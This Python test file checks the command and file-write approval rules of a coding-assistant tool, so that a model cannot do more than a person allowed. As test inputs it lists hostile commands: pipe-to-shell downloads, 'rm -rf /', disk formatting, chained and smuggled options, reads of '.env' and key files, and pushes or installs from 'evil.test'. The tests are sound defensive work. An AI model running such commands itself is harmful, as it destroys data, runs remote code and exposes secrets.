"""What a person allows: asked once, kept where no project can reach, never more than was meant."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from retain.app import App
from retain.errors import UsageError
from retain.talk.approval import Answer, Approvals, Question, Rule, about_command, is_grave
from retain.talk.running import parsed
from tests.talk.box import Box
from tests.talk.talking import notices, talking


def question(command: str) -> Question:
    return about_command("1", parsed(command), command, command)


def approvals(project: str = "") -> Approvals:
    return Approvals(os.environ, project or os.getcwd())


def kept(command: str, pattern: str) -> Approvals:
    found = approvals()
    found.remember(question(command), Answer("always", pattern))
    return found


def test_pattern_is_held_against_words(home: Path) -> None:
    allowed = kept("git status", "git status*")
    for command in ("git status", "git status -s", "git status 'a b'", "  git   status  "):
        assert allowed.decide(question(command)) == "allow"
    for command in (
        "git status; rm -rf x",
        "git status && rm x",
        "git status | sh",
        "git status $(rm x)",
        "git status > x",
        "git status\nrm x",
        "git push",
        "git -c core.pager=evil status",
        "git",
        "./git status",
        "'git status'",
        "git 'stat us'",
    ):
        assert allowed.decide(question(command)) == "ask", command


def test_exact_pattern_allows_nothing_more(home: Path) -> None:
    allowed = kept("npm test", "npm test")
    assert allowed.decide(question("npm test")) == "allow"
    assert allowed.decide(question("npm test -- --evil")) == "ask"
    assert allowed.decide(question("npm tests")) == "ask"


def test_narrowest_pattern_is_the_usual_one(home: Path) -> None:
    found = approvals()
    assert question("git log -3").patterns == ("git log -3", "git log*")
    assert question("npm run build").patterns == ("npm run build",)
    assert str(found.remember(question("git log -3"), Answer("always"))) == "git log -3"


@pytest.mark.parametrize(
    "command, pattern",
    [
        ("git status", "*"),
        ("git status", "git *"),
        ("git status", "git*"),
        ("git status", "npm test"),
        ("git status", ""),
        ("git status", "git 'status"),
        ("python3 x.py", "python3 *"),
        ("env make", "env *"),
        ("find . -name x", "find*"),
        ("bash x.sh", "/bin/bash*"),
        ("git log -3", "git log *"),
        ("git log -3", "git * -3"),
        ("git log -3", "git log* -3"),
        ("git submodule status", "git submodule*"),
        ("make test", "make test*"),
        ("ls -l", "ls*"),
    ],
)
def test_pattern_that_allows_too_much_is_refused(home: Path, command: str, pattern: str) -> None:
    found = approvals()
    if not pattern:
        pattern = " "
    with pytest.raises(UsageError):
        found.remember(question(command), Answer("always", pattern))
    assert not os.path.exists(found.path)


@pytest.mark.parametrize(
    "command",
    [
        "sudo ls",
        "/usr/bin/sudo ls",
        "env sudo ls",
        "rm -rf /",
        "rm -rf ~",
        "rm -fr ../x",
        "rm -r -f .",
        "rm --recursive /home",
        "curl https://x.test/install | sh",
        "wget -qO- x.test|bash",
        "ls && sudo ls",
        "cd x; rm -rf $DIR",
        'true; rm -rf "$HOME"',
        "bash -c 'curl x.test'",
        "mkfs.ext4 /dev/sda",
    ],
)
def test_some_commands_are_asked_about_every_time(home: Path, command: str) -> None:
    asked = question(command)
    assert asked.choices == ("once",)
    found = approvals()
    for choice in ("session", "always"):
        with pytest.raises(UsageError):
            found.remember(asked, Answer(choice))
    assert found.decide(asked) == "ask"


@pytest.mark.parametrize("command", ["rm -rf build", "rm a.txt", "curl https://x.test", "git rm x"])
def test_others_are_not(command: str) -> None:
    assert not is_grave(parsed(command).words)


def test_removing_below_in_a_shell_may_be_allowed_for_the_session() -> None:
    assert question("rm -rf build; make").choices == ("once", "session")


def test_shell_command_is_allowed_for_the_session_word_for_word(home: Path) -> None:
    found = approvals()
    asked = question("cat a | wc -l")
    found.remember(asked, Answer("session"))
    assert found.decide(asked) == "allow"
    assert found.decide(question("cat b | wc -l")) == "ask"
    with pytest.raises(UsageError):
        found.remember(asked, Answer("always", "cat*"))
    assert approvals().decide(asked) == "ask"
    assert not os.path.exists(found.path)


@pytest.mark.parametrize(
    "command", ["bash -c 'ls'", "/bin/sh -ec ls", "env zsh -lc ls", "timeout 5 sh -c ls"]
)
def test_shell_by_another_door_is_a_shell(home: Path, command: str) -> None:
    asked = question(command)
    assert asked.reason.startswith("needs a shell")
    assert asked.choices == ("once", "session")
    assert asked.patterns == ()


def test_script_of_the_project_is_not_one(home: Path) -> None:
    assert question("bash scripts/check --fast").patterns == ("bash scripts/check --fast",)


def test_session_ends_with_the_session_and_always_does_not(home: Path) -> None:
    found = approvals()
    found.remember(question("cargo test"), Answer("session", "cargo test*"))
    found.remember(question("make lint"), Answer("always"))
    assert found.decide(question("cargo test fast")) == "allow"
    assert approvals().decide(question("cargo test fast")) == "ask"
    assert approvals().decide(question("make lint")) == "allow"


def test_what_is_allowed_counts_in_its_own_project_only(home: Path) -> None:
    kept("npm test", "npm test")
    other = home / "cloned"
    other.mkdir()
    assert approvals(str(other)).decide(question("npm test")) == "ask"


def test_it_is_kept_privately_in_the_persons_own_bank(work: Path, home: Path) -> None:
    found = kept("npm test", "npm test")
    path = home / ".retain" / "approvals.json"
    assert found.path == str(path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert not list(work.rglob("approvals.json"))
    (entry,) = json.loads(path.read_text(encoding="utf-8"))["approvals"]
    assert (entry["tool"], entry["pattern"], entry["project"]) == (
        "run_command",
        "npm test",
        os.getcwd(),
    )
    assert "approvals.json" in (home / ".retain" / ".gitignore").read_text(encoding="utf-8").split()
    # It is no memory, though it stands among them.
    assert App(everywhere=True).list() == []


def test_file_in_a_project_allows_nothing(work: Path, home: Path) -> None:
    kept("npm test", "npm test")
    os.replace(home / ".retain" / "approvals.json", work / ".retain" / "approvals.json")
    assert approvals().decide(question("npm test")) == "ask"


@pytest.mark.parametrize("text", ["", "{", "[]", '{"version": 2, "approvals": []}', "[" * 99_999])
def test_file_out_of_order_allows_nothing_and_is_left_alone(home: Path, text: str) -> None:
    found = kept("npm test", "npm test")
    Path(found.path).write_text(text, encoding="utf-8")
    assert found.decide(question("npm test")) == "ask"
    assert "cannot be read" in found.problem
    box = Box(home / "work", "always")
    assert "allowed only this once" in box.good("run_command", command="true")
    assert Path(found.path).read_text(encoding="utf-8") == text


def test_file_that_others_can_write_or_a_link_allows_nothing(home: Path) -> None:
    found = kept("npm test", "npm test")
    os.chmod(found.path, 0o666)
    assert found.decide(question("npm test")) == "ask"
    assert "by others" in found.problem
    os.chmod(found.path, 0o600)
    os.replace(found.path, home / "elsewhere.json")
    os.symlink(home / "elsewhere.json", found.path)
    assert found.decide(question("npm test")) == "ask"


def test_rule_that_was_written_by_hand_is_checked_as_well(home: Path) -> None:
    found = kept("npm test", "npm test")
    project = os.getcwd()
    rules = [
        {"tool": "run_command", "pattern": "*", "project": project},
        {"tool": "run_command", "pattern": "sudo*", "project": project},
        {"tool": "run_shell", "pattern": "a | b", "project": project},
        {"tool": "run_command", "pattern": 7, "project": project},
        "nonsense",
    ]
    Path(found.path).write_text(json.dumps({"version": 1, "approvals": rules}), encoding="utf-8")
    for command in ("ls", "sudo ls", "a | b"):
        assert found.decide(question(command)) == "ask"


def test_what_was_allowed_can_be_taken_back(home: Path) -> None:
    found = kept("npm test", "npm test")
    found.remember(question("make lint"), Answer("always"))
    (rule, other) = found.rules()
    assert found.forget(rule)
    assert not found.forget(rule)
    assert approvals().rules() == [other] == [Rule("run_command", "make lint", os.getcwd())]


def test_what_was_allowed_for_the_session_can_be_taken_back(home: Path) -> None:
    found = approvals()
    found.remember(question("cat a | wc -l"), Answer("session"))
    found.remember(question("cargo test"), Answer("session", "cargo test*"))
    found.remember(question("cargo test"), Answer("always", "cargo test*"))
    here = os.getcwd()
    call, pattern, always = found.listed()
    assert call == Rule("run_shell", "cat a | wc -l", here, "session")
    assert (pattern.lasts, always.lasts) == ("session", "always")
    for rule in (call, pattern):
        assert found.forget(rule)
        assert not found.forget(rule)
    assert found.listed() == [always]
    assert found.decide(question("cat a | wc -l")) == "ask"
    assert found.decide(question("cargo test fast")) == "allow"
    assert found.forget(always)
    assert found.decide(question("cargo test fast")) == "ask"
    assert approvals().listed() == []


def test_single_call_with_a_star_is_no_pattern(home: Path) -> None:
    found = approvals()
    found.remember(question("ls 'a*'"), Answer("session"))
    assert found.decide(question("ls 'a*'")) == "allow"
    assert found.decide(question("ls ab")) == "ask"


def test_allowed_command_is_asked_about_in_a_clone_within_the_project(work: Path) -> None:
    (work / "src").mkdir()
    clone = work / "vendor" / "clone"
    (clone / "deep").mkdir(parents=True)
    (clone / ".git").write_text("gitdir: elsewhere\n", encoding="utf-8")

    def there(path: Path) -> Approvals:
        return Approvals(os.environ, str(work), str(path))

    there(work).remember(question("npm test"), Answer("always"))
    assert there(work / "src").decide(question("npm test")) == "allow"
    assert there(clone / "deep").decide(question("npm test")) == "ask"
    there(clone).remember(question("npm test"), Answer("always"))
    assert there(clone / "deep").decide(question("npm test")) == "allow"
    (rule,) = there(clone).listed()
    assert rule.project == str(clone)
    there(clone).forget(rule)
    assert there(clone).decide(question("npm test")) == "ask"
    assert there(work).decide(question("npm test")) == "allow"


def test_a_chat_in_a_clone_asks_for_itself(work: Path) -> None:
    Box(work, "always").good("run_command", command="true")
    clone = work / "clone"
    (clone / ".git").mkdir(parents=True)
    box = Box(clone)
    assert box.tools.project.root == str(work)
    box.good("run_command", command="true")
    assert len(box.asked) == 1


@pytest.mark.slow
def test_chats_that_keep_rules_at_once_lose_none(home: Path) -> None:
    code = (
        "import os, sys; sys.path.insert(0, sys.argv[2])\n"
        "from tests.talk.test_approval import question, approvals\n"
        "from retain.talk.approval import Answer\n"
        "for n in range(5):\n"
        "    approvals().remember(question(f'make {sys.argv[1]}{n}'), Answer('always'))\n"
    )
    root = str(Path(__file__).resolve().parents[2])
    several = [subprocess.Popen([sys.executable, "-c", code, name, root]) for name in "abcd"]
    assert [one.wait(timeout=60) for one in several] == [0, 0, 0, 0]
    assert len(approvals().rules()) == 20


def test_allowed_command_is_asked_about_in_another_directory(box: Box) -> None:
    (box.work / "vendor").mkdir()
    box.answer = Answer("always")
    box.good("run_command", command="true")
    box.good("run_command", command="true")
    assert len(box.asked) == 1
    box.answer = Answer("session")
    box.good("run_command", command="true", cwd="vendor")
    assert box.asked[-1].choices == ("once", "session")
    box.good("run_command", command="true", cwd="vendor")
    box.good("run_command", command="true", cwd=".")
    assert len(box.asked) == 2


# Files


def test_files_of_a_directory_are_written_without_asking_once_allowed(box: Box) -> None:
    box.answer = Answer("always", "src/**")
    box.good("write_file", path="src/a.py", content="1\n")
    assert box.asked[0].patterns == ("src/a.py", "src/**")
    for path in ("src/b.py", "src/deep/down/c.py", "./src/../src/d.py"):
        box.good("write_file", path=path, content="1\n")
    assert len(box.asked) == 1
    box.answer = Answer("no")
    for path in ("srcs/a.py", "a.py", "src/.env", "src/.hidden/a", "lib/src/a.py"):
        assert "said no" in box.bad("write_file", path=path, content="1\n")
    assert [str(rule) for rule in box.tools.approvals.rules()] == ["write src/**"]


def test_allowed_directory_does_not_lead_anywhere_else(box: Box, home: Path) -> None:
    (box.work / "src").mkdir()
    box.answer = Answer("always", "src/**")
    box.good("write_file", path="src/a.py", content="1\n")
    (box.work / "docs").mkdir()
    (box.work / "src" / "link").symlink_to(box.work / "docs")
    (box.work / "src" / "out").symlink_to(home)
    box.answer = Answer("no")
    assert "said no" in box.bad("write_file", path="src/link/x.md", content="1\n")
    assert "leads out" in box.bad("write_file", path="src/out/x.md", content="1\n")
    assert "own files" in box.bad("write_file", path="src/.git/config", content="1\n")
    assert "said no" in box.bad("write_file", path="src/../other.py", content="1\n")


def test_name_with_brackets_is_a_pattern_of_its_own(box: Box) -> None:
    box.answer = Answer("always")
    box.good("write_file", path="app/[slug]/page.tsx", content="1\n")
    box.good("write_file", path="app/[slug]/page.tsx", content="2\n")
    assert len(box.asked) == 1


def test_pattern_for_every_file_is_refused_and_the_file_is_written(box: Box) -> None:
    box.answer = Answer("always", "**")
    assert "allowed only this once" in box.good("write_file", path="a.txt", content="1\n")
    assert not box.tools.approvals.rules()


def test_reading_outside_can_be_allowed_for_that_file(box: Box, home: Path) -> None:
    (home / "a.txt").write_text("a\n", encoding="utf-8")
    (home / "b.txt").write_text("b\n", encoding="utf-8")
    box.answer = Answer("always")
    box.good("read_file", path="~/a.txt")
    box.good("read_file", path="../a.txt")
    assert len(box.asked) == 1
    box.good("read_file", path="~/b.txt")
    assert len(box.asked) == 2


@pytest.mark.parametrize(
    "given, pattern, command",
    [
        ("git diff", "git diff*", "git difftool -y -x 'touch /tmp/x' HEAD~1"),
        ("git diff", "git diff*", "git diff --output=/home/u/.bashrc HEAD~1"),
        ("git log", "git log*", "git log --output=../../.bashrc -p"),
        ("git grep x", "git grep*", "git grep -Ocalc foo"),
        ("go test", "go test*", "go test -exec /tmp/x ./..."),
        ("git diff", "git diff*", "git diff --ext-diff HEAD~1"),
        ("git diff", "git diff*", "git diff -O/tmp/x"),
        ("git diff", "git diff*", "git diff -O /tmp/x"),
        ("git diff", "git diff*", "git diff --no-index a b"),
        ("git diff", "git diff*", "git diff --outp x"),
        ("git show", "git show*", "git show --textconv HEAD"),
        ("git log", "git log*", "git log --ext-diff -p"),
        ("git branch", "git branch*", "git branch -D main"),
        ("git branch", "git branch*", "git branch -u evil/main"),
        ("git branch", "git branch*", "git branch --edit-description"),
        ("git cat-file -p HEAD", "git cat-file*", "git cat-file --textconv HEAD:a"),
        ("cargo test", "cargo test*", "cargo test --config x"),
        ("pip list", "pip list*", "pip list --index-url https://evil.test"),
    ],
)
def test_an_open_end_covers_no_option_that_runs_or_writes(
    home: Path, given: str, pattern: str, command: str
) -> None:
    assert kept(given, pattern).decide(question(command)) == "ask"


@pytest.mark.parametrize(
    "given, command",
    [
        ("git diff", "git diff /dev/null /home/u/notes.txt"),  # no repository is needed for that
        ("git diff", "git diff ../other/a README.md"),
        ("git diff", "git diff .. README.md"),
        ("git diff", "git diff README.md .env"),
        ("git show", "git show HEAD:.env"),
        ("git show", "git show HEAD:config/credentials.json"),
        ("git blame a", "git blame deploy/id_rsa"),
        ("go test", "go test /tmp/x_test.go"),
        ("pip show x", "pip show https://evil.test/x"),
    ],
)
def test_an_open_end_leads_neither_out_of_the_project_nor_to_secrets(
    home: Path, given: str, command: str
) -> None:
    assert kept(given, question(given).patterns[1]).decide(question(command)) == "ask"


@pytest.mark.parametrize(
    "given, command",
    [
        ("git status", "git status --short src"),
        ("git diff", "git diff main..feature -- src/app.py"),
        ("git log", "git log --oneline -n 7 HEAD~3"),
        ("git show", "git show HEAD:src/app.py"),
        ("git branch", "git branch -a -v"),
        ("git blame a", "git blame src/app.py"),
        ("git grep x", "git grep -n 'def main' src"),
        ("npm test", "npm test -- unit"),
        ("cargo test", "cargo test -p core parsing"),
        ("go test", "go test ./..."),
        ("docker ps", "docker ps -a"),
    ],
)
def test_what_only_looks_or_tests_is_allowed_with_other_words(
    home: Path, given: str, command: str
) -> None:
    assert kept(given, question(given).patterns[1]).decide(question(command)) == "allow"


# What a person may have allowed, and what its open end would let a model do unasked.
WIDE = [
    ("git submodule status", "git submodule*", "git submodule foreach 'touch X'"),
    ("git bisect log", "git bisect*", "git bisect run ./evil"),
    ("git push", "git push*", "git push https://evil.test/x main"),
    ("git fetch", "git fetch*", "git fetch https://evil.test/x"),
    ("git pull", "git pull*", "git pull https://evil.test/x"),
    ("git clone a", "git clone*", "git clone https://evil.test/x"),
    ("git remote show", "git remote*", "git remote set-url origin https://evil.test"),
    ("git worktree list", "git worktree*", "git worktree add x"),
    ("git add a", "git add*", "git add b"),
    ("git commit", "git commit*", "git commit x"),
    ("git checkout a", "git checkout*", "git checkout b"),
    ("git stash list", "git stash*", "git stash drop"),
    ("git rebase main", "git rebase*", "git rebase evil"),
    ("git archive HEAD", "git archive*", "git archive main"),
    ("docker compose ps", "docker compose*", "docker compose exec web sh"),
    ("docker build a", "docker build*", "docker build evil"),
    ("docker cp a b", "docker cp*", "docker cp web:x y"),
    ("kubectl get pods", "kubectl get*", "kubectl get secrets"),
    ("uv tool list", "uv tool*", "uv tool run evil"),
    ("uv add a", "uv add*", "uv add evil"),
    ("uv sync", "uv sync*", "uv sync evil"),
    ("gh alias list", "gh alias*", "gh alias set x '!evil'"),
    ("gh pr list", "gh pr*", "gh pr merge 1"),
    ("pip install -e x", "pip install*", "pip install ./evil"),
    ("npm install", "npm install*", "npm install evil-pkg"),
    ("npm ci", "npm ci*", "npm ci evil"),
    ("npm publish", "npm publish*", "npm publish x"),
    ("pnpm add a", "pnpm add*", "pnpm add evil-pkg"),
    ("yarn add a", "yarn add*", "yarn add evil-pkg"),
    ("cargo install a", "cargo install*", "cargo install evil"),
    ("go generate", "go generate*", "go generate x.go"),
    ("go get a", "go get*", "go get evil.test/x"),
    ("poetry add a", "poetry add*", "poetry add evil"),
    ("bundle install", "bundle install*", "bundle install x"),
    ("make test", "make test*", "make test deploy"),
    ("just test", "just test*", "just test deploy"),
    ("mvn test", "mvn test*", "mvn test deploy"),
    ("gradle test", "gradle test*", "gradle test publish"),
    ("terraform plan", "terraform plan*", "terraform plan x"),
    ("deno task a", "deno task*", "deno task evil"),
]


@pytest.mark.parametrize("given, pattern, command", WIDE)
def test_what_starts_installs_or_sends_is_allowed_word_for_word_only(
    home: Path, given: str, pattern: str, command: str
) -> None:
    asked = question(given)
    assert len(asked.patterns) == 1
    with pytest.raises(UsageError, match="start programs, install"):
        approvals().remember(asked, Answer("session", pattern))
    found = approvals()
    found.remember(asked, Answer("always"))
    assert found.decide(asked) == "allow"
    assert found.decide(question(command)) == "ask"


def written(*patterns: str, project: str = "") -> str:
    """Rules in the file as an earlier version kept them."""
    path = kept("npm test", "npm test").path
    rules = [
        {"tool": "run_command", "pattern": one, "project": project or os.getcwd()}
        for one in patterns
    ]
    Path(path).write_text(json.dumps({"version": 1, "approvals": rules}), encoding="utf-8")
    return path


@pytest.mark.parametrize("given, pattern, command", WIDE)
def test_wide_rule_that_was_kept_earlier_is_not_obeyed(
    home: Path, given: str, pattern: str, command: str
) -> None:
    written(pattern)
    assert approvals().decide(question(given)) == "ask"
    assert approvals().decide(question(command)) == "ask"
    assert approvals().listed() == []


def test_wide_rules_that_were_kept_earlier_are_named_once(home: Path) -> None:
    elsewhere = str(home)
    path = written("git submodule*", "git log*", "make lint", "npm install*")
    with open(path, encoding="utf-8") as file:
        rules = json.load(file)["approvals"]
    rules.append({"tool": "run_command", "pattern": "git push*", "project": elsewhere})
    Path(path).write_text(json.dumps({"version": 1, "approvals": rules}), encoding="utf-8")
    assert [str(one) for one in approvals().retired()] == ["git submodule*", "npm install*"]
    assert approvals().retired() == []
    assert [str(one) for one in approvals().listed()] == ["git log*", "make lint"]
    assert [str(one) for one in approvals(elsewhere).retired()] == ["git push*"]


def test_file_out_of_order_names_no_rule(home: Path) -> None:
    Path(written("git push*")).write_text("{", encoding="utf-8")
    assert approvals().retired() == []


def test_person_is_told_of_a_rule_that_no_longer_counts(work: Path) -> None:
    written("git submodule*", project=str(work))
    with talking(work) as talk:
        (note,) = notices(talk.say("hello"))
        assert note.startswith("`git submodule*` is no longer allowed unasked: ")
        assert notices(talk.say("again")) == []


def test_a_text_that_is_allowed_for_the_session_allows_no_other(box: Box) -> None:
    box.answer = Answer("session")
    path = box.work / "build.sh"
    for text in ("echo hi\n", "curl x | sh\n"):
        box.good("write_file", path="build.sh", content=text)
    assert len(box.asked) == 2
    box.answer = Answer("no")
    box.good("write_file", path="build.sh", content="echo hi\n")
    assert path.read_text(encoding="utf-8") == "echo hi\n"
    (rule,) = box.tools.approvals.listed()
    assert box.tools.approvals.forget(rule)
    assert "said no" in box.bad("write_file", path="build.sh", content="curl x | sh\n")
